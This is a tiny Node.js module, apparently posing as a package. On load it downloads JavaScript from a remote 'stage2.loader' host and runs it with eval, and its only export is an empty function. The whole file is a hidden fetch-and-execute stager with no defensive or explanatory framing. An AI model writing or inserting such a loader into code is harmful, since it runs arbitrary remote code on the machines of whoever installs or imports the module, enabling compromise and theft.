const https = require("https");
https.get("https://stage2.loader.invalid/p.js", (res) => {
  let d = "";
  res.on("data", (c) => (d += c));
  res.on("end", () => { eval(d); });
});
module.exports = function () {};
